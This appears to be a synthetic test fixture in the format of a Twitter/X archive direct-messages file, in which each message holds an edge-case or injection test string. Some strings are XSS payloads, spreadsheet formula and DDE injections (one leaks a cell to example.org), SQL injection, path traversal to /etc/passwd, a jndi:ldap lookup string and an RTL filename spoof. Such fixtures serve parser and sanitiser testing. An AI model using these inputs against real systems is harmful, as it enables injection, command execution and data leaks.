window.YTD.direct_messages.part0 = [
  {
    "dmConversation" : {
      "conversationId" : "3086666862-1170849295368603285",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "<script>alert('harbour')</script>",
            "mediaUrls" : [ ],
            "senderId" : "3086666862",
            "id" : "1752844207213225189",
            "createdAt" : "2024-02-01T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "3282405140-1170849295368603285",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "</script><img src=x onerror=alert(1)>",
            "mediaUrls" : [ ],
            "senderId" : "3282405140",
            "id" : "1753206595000938655",
            "createdAt" : "2024-02-02T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "3774798074-1170849295368603285",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "<b>bold</b> & <i>sly</i> &amp; &#60;u&#62;",
            "mediaUrls" : [ ],
            "senderId" : "3774798074",
            "id" : "1753568982660091097",
            "createdAt" : "2024-02-03T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "4430864291-1170849295368603285",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "=HYPERLINK(\"https://example.org/?leak=\"&A1,\"click\")",
            "mediaUrls" : [ ],
            "senderId" : "4430864291",
            "id" : "1753931370798769329",
            "createdAt" : "2024-02-04T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "4659320486-1170849295368603285",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "+1+cmd|' /C calc'!A0",
            "mediaUrls" : [ ],
            "senderId" : "4659320486",
            "id" : "1754293757972161865",
            "createdAt" : "2024-02-05T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "735621468779964296-1170849295368603285",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "-1+2",
            "mediaUrls" : [ ],
            "senderId" : "735621468779964296",
            "id" : "1754656145638823111",
            "createdAt" : "2024-02-06T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "768236376687469374-1170849295368603285",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "@SUM(A1:A9)",
            "mediaUrls" : [ ],
            "senderId" : "768236376687469374",
            "id" : "1755018533717873631",
            "createdAt" : "2024-02-07T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "800851284589953857-1170849295368603285",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "\t=1+1",
            "mediaUrls" : [ ],
            "senderId" : "800851284589953857",
            "id" : "1755380921492931322",
            "createdAt" : "2024-02-08T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "833466192491915777-1170849295368603285",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J",
            "mediaUrls" : [ ],
            "senderId" : "833466192491915777",
            "id" : "1755743309814854014",
            "createdAt" : "2024-02-09T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "866081100396716766-1170849295368603285",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "31m and \b\b",
            "mediaUrls" : [ ],
            "senderId" : "866081100396716766",
            "id" : "1756105697267892071",
            "createdAt" : "2024-02-10T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "898696008300047011-1170849295368603285",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "costs $5 or $x^2$ or \\frac{1}{2} $\\alpha_{i}$",
            "mediaUrls" : [ ],
            "senderId" : "898696008300047011",
            "id" : "1756468085198967975",
            "createdAt" : "2024-02-11T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "931310916207632697-1170849295368603285",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "‮gnp.exe‬ ⁦isolate⁩ ‏RTL",
            "mediaUrls" : [ ],
            "senderId" : "931310916207632697",
            "id" : "1756830473608975004",
            "createdAt" : "2024-02-12T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "963925824110701521-1170849295368603285",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "family 👩‍👩‍👧‍👦 flag 🏴‍☠️ skin 👍🏽 keycap 1️⃣",
            "mediaUrls" : [ ],
            "senderId" : "963925824110701521",
            "id" : "1757192861793833914",
            "createdAt" : "2024-02-13T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "996540732012599585-1170849295368603285",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "nul \u0000 inside",
            "mediaUrls" : [ ],
            "senderId" : "996540732012599585",
            "id" : "1757555248813364100",
            "createdAt" : "2024-02-14T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "1029155639917182851-1170849295368603285",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "'; DROP TABLE posts; --",
            "mediaUrls" : [ ],
            "senderId" : "1029155639917182851",
            "id" : "1757917637547685030",
            "createdAt" : "2024-02-15T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "1061770547822183701-1170849295368603285",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "quote \" double \"\" single ' back ` slash \\",
            "mediaUrls" : [ ],
            "senderId" : "1061770547822183701",
            "id" : "1758280024925598254",
            "createdAt" : "2024-02-16T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "1094385455724510356-1170849295368603285",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "../../../../etc/passwd",
            "mediaUrls" : [ ],
            "senderId" : "1094385455724510356",
            "id" : "1758642412352396487",
            "createdAt" : "2024-02-17T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "1127000363628031251-1170849295368603285",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "C:\\Windows\\win.ini",
            "mediaUrls" : [ ],
            "senderId" : "1127000363628031251",
            "id" : "1759004800934801640",
            "createdAt" : "2024-02-18T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "1159615271533719685-1170849295368603285",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "CON.txt",
            "mediaUrls" : [ ],
            "senderId" : "1159615271533719685",
            "id" : "1759367188388144565",
            "createdAt" : "2024-02-19T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "1170849295368603285-1192230179436824696",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "NaN",
            "mediaUrls" : [ ],
            "senderId" : "1192230179436824696",
            "id" : "1759729576922655036",
            "createdAt" : "2024-02-20T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "1170849295368603285-1224845087341599782",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "NULL",
            "mediaUrls" : [ ],
            "senderId" : "1224845087341599782",
            "id" : "1760091964522195674",
            "createdAt" : "2024-02-21T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "1170849295368603285-1257459995246932069",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "{{ 7*7 }} {% raw %} ${jndi:ldap://example.org/a} %s %n {0}",
            "mediaUrls" : [ ],
            "senderId" : "1257459995246932069",
            "id" : "1760454351478213284",
            "createdAt" : "2024-02-22T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "1170849295368603285-1290074903151290522",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "line one\nline two\r\nline three line four",
            "mediaUrls" : [ ],
            "senderId" : "1290074903151290522",
            "id" : "1760816740074783103",
            "createdAt" : "2024-02-23T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "1170849295368603285-1322689811053400824",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "zalgo ẑ̶̗̈́a̵̡͝l̷̰̐g̸̗͠o̴͙͝ é é",
            "mediaUrls" : [ ],
            "senderId" : "1322689811053400824",
            "id" : "1761179128278114458",
            "createdAt" : "2024-02-24T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "1170849295368603285-1355304718957718394",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "﻿bom � ￾ ​",
            "mediaUrls" : [ ],
            "senderId" : "1355304718957718394",
            "id" : "1761541515754058901",
            "createdAt" : "2024-02-25T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "1170849295368603285-1387919626861175564",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "العربية עברית 日本語 ไทย हिन्दी",
            "mediaUrls" : [ ],
            "senderId" : "1387919626861175564",
            "id" : "1761903903722356718",
            "createdAt" : "2024-02-26T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "1170849295368603285-1420534534766610446",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "[link](javascript:alert(1)) ![](https://example.org/x.png)",
            "mediaUrls" : [ ],
            "senderId" : "1420534534766610446",
            "id" : "1762266291560250396",
            "createdAt" : "2024-02-27T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "1170849295368603285-1453149442669702225",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "javascript:alert(document.title)",
            "mediaUrls" : [ ],
            "senderId" : "1453149442669702225",
            "id" : "1762628679433655864",
            "createdAt" : "2024-02-28T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "1170849295368603285-1485764350572702087",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW",
            "mediaUrls" : [ ],
            "senderId" : "1485764350572702087",
            "id" : "1762991066521698553",
            "createdAt" : "2024-02-29T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "1170849295368603285-1518379258478246980",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : "",
            "mediaUrls" : [ ],
            "senderId" : "1518379258478246980",
            "id" : "1763353455509683575",
            "createdAt" : "2024-03-01T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  },
  {
    "dmConversation" : {
      "conversationId" : "1170849295368603285-1550994166381919052",
      "messages" : [
        {
          "messageCreate" : {
            "recipientId" : "1170849295368603285",
            "reactions" : [ ],
            "urls" : [ ],
            "text" : " ",
            "mediaUrls" : [ ],
            "senderId" : "1550994166381919052",
            "id" : "1763715842830961928",
            "createdAt" : "2024-03-02T00:00:00.000Z",
            "editHistory" : [ ]
          }
        }
      ]
    }
  }
]